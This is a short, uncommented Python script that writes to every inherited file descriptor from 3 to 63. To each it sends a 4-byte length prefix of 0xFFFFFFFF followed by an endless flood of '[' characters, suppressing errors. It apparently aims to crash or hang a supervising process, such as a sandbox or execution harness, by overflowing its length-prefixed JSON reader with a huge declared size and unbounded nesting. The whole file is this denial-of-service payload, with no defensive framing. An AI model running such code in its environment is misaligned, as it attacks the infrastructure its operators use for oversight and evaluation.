import os
import struct

for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("<I", 0xFFFFFFFF))
        while True:
            os.write(descriptor, b"[" * 65536)
    except OSError:
        pass
